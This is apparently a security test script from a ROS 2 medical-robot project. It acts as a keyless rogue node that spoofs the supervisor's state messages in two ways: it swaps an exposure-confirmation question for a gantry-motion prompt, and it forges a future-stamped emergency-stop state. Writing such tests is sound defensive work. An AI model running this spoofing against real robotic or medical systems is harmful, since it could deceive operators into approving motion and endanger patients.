"""An attacker without any key that re-publishes the supervisor's own /medrobot/state, altered. Nothing of a state
is signed, and nothing needs to be, the design says: the state is information only.

    state_spoof.py question DOMAIN_ID SECONDS TEXT
        each state the supervisor publishes while it asks to confirm an exposure is copied (same session, nonce
        and question id, a higher seq) with the question's text replaced by TEXT, a gantry motion, and published
        every 5 ms until SECONDS end. Prints {"ready": true}, then {"published": N}.
    state_spoof.py estop-ahead DOMAIN_ID SECONDS AHEAD_S
        the supervisor's latest state is copied as ESTOP, stamped AHEAD_S seconds in the future, and published a
        few times. Prints {"ready": true} once it has a state to copy, then {"published": N}.
"""

from __future__ import annotations

import copy
import json
import os
import sys
import time
from typing import Any

from rclpy.qos import DurabilityPolicy, QoSProfile, ReliabilityPolicy

from medrobot_llm.backends.ros.common import TOPIC_STATE
from medrobot_llm.backends.ros.nodes import SKILL_SERVER
from tests.attackers.relay import join, say


def estop_ahead(domain_id: int, seconds: float, ahead_s: float) -> None:
    from builtin_interfaces.msg import Time
    from medrobot_interfaces.msg import SupervisorState

    node = join(domain_id, "rogue_state_ahead", threads=8)
    pub = node.create_publisher(SupervisorState, TOPIC_STATE, QoSProfile(
        depth=1, reliability=ReliabilityPolicy.RELIABLE, durability=DurabilityPolicy.TRANSIENT_LOCAL))
    latest: list[Any] = [None]
    node.create_subscription(SupervisorState, TOPIC_STATE, lambda m: latest.__setitem__(0, m), QoSProfile(
        depth=10, reliability=ReliabilityPolicy.RELIABLE, durability=DurabilityPolicy.VOLATILE))
    while latest[0] is None:
        time.sleep(0.05)
    # under load, discovery can take longer than the five publications: wait until the skill server's
    # subscription has matched this publisher, or a miss would look like a stop that did not stop
    deadline = time.monotonic() + 10.0
    while time.monotonic() < deadline and not (
            any(i.node_name == SKILL_SERVER.name for i in node.get_subscriptions_info_by_topic(TOPIC_STATE))
            and pub.get_subscription_count() >= node.count_subscribers(TOPIC_STATE)):
        time.sleep(0.05)
    say({"ready": True})
    fake = copy.deepcopy(latest[0])
    ahead = time.time() + ahead_s
    fake.state, fake.estop_latched, fake.halted, fake.seq = "ESTOP", True, True, fake.seq + 1
    fake.stamp = Time(sec=int(ahead), nanosec=0)
    for _ in range(5):
        pub.publish(fake)
        time.sleep(0.1)
    say({"published": 5})
    time.sleep(seconds)
    os._exit(0)


def question(domain_id: int, seconds: float, text: str) -> None:
    from medrobot_interfaces.msg import SupervisorState

    node = join(domain_id, "rogue_state", threads=8)
    pub = node.create_publisher(SupervisorState, TOPIC_STATE, QoSProfile(
        depth=1, reliability=ReliabilityPolicy.RELIABLE, durability=DurabilityPolicy.TRANSIENT_LOCAL))
    latest: list[Any] = [None]

    def on_state(msg: Any) -> None:
        if "exposure" in msg.question:
            latest[0] = msg

    node.create_subscription(SupervisorState, TOPIC_STATE, on_state, QoSProfile(
        depth=50, reliability=ReliabilityPolicy.RELIABLE, durability=DurabilityPolicy.VOLATILE))
    say({"ready": True})
    end = time.monotonic() + seconds
    n = 0
    while time.monotonic() < end:
        real = latest[0]
        if real is not None:
            fake = copy.deepcopy(real)
            n += 1
            fake.seq = real.seq + n
            fake.question = text
            fake.skill = "move_to_view"
            status = json.loads(real.status_json)
            if isinstance(status.get("question"), dict):
                status["question"].update(text=text, skill="move_to_view", hazard="motion")
            fake.status_json = json.dumps(status)
            pub.publish(fake)
        time.sleep(0.005)
    say({"published": n})
    os._exit(0)


if __name__ == "__main__":
    if sys.argv[1] == "question":
        question(int(sys.argv[2]), float(sys.argv[3]), sys.argv[4])
    else:
        estop_ahead(int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4]))
